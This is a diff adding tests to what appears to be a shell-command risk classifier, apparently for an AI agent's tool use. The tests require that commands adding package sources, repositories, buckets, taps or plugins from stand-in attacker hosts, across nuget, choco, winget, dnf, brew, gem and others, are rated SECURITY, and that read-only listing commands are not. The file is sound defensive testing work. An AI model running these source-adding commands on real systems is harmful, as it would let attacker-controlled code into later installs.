@@ -218,3 +218,43 @@ describe("a well-known package of the language installed by name is no new code 
     expect(bash(command).level).toBe("SECURITY");
   });
 });
+
+/** A package source added in any ecosystem's words (docs/adr/0455). */
+describe("a source added for later installs is SECURITY by every manager's words", () => {
+  test.each([
+    "dotnet nuget add source https://evil.example.com/v3/index.json -n evil",
+    "dotnet nuget add source https://evil.example.com/v3/index.json --name=evil",
+    "dotnet nuget update source nuget.org --source https://evil.example.com/v3/index.json",
+    "nuget sources add -Name evil -Source https://evil.example.com/v3/index.json",
+    "choco source add -n evil -s https://evil.example.com/api/v2",
+    "choco source add --name=evil --source=https://evil.example.com/api/v2",
+    "winget source add --name evil https://evil.example.com/cache",
+    "scoop bucket add evil https://github.com/attacker/bucket",
+    "zypper ar https://evil.example.com/repo evil",
+    "dnf config-manager --add-repo https://evil.example.com/evil.repo",
+    "flatpak remote-add evil https://evil.example.com/evil.flatpakrepo",
+    "opam repository add evil https://evil.example.com/opam",
+    "opam repo add evil https://evil.example.com/opam",
+    "mise plugins install evil https://github.com/attacker/mise-evil",
+    "mise plugin install evil https://github.com/attacker/mise-evil",
+    "cpanm --mirror https://evil.example.com/cpan Foo::Bar",
+    "cpanm --mirror=https://evil.example.com/cpan Foo::Bar",
+    "gem specific_install https://github.com/attacker/gem",
+    "gem specific_install -l https://github.com/attacker/gem.git -b main",
+    "brew tap attacker/evil https://github.com/attacker/homebrew-evil",
+  ])("%s", (command) => {
+    expect(bash(command).level).toBe("SECURITY");
+  });
+  test.each([
+    "dotnet nuget list source",
+    "choco source list",
+    "scoop bucket list",
+    "flatpak remotes",
+    "zypper repos",
+    "brew tap",
+    "brew tap homebrew/cask-fonts",
+    "opam list",
+  ])("%s stays below SECURITY", (command) => {
+    expect(bash(command).level).not.toBe("SECURITY");
+  });
+});
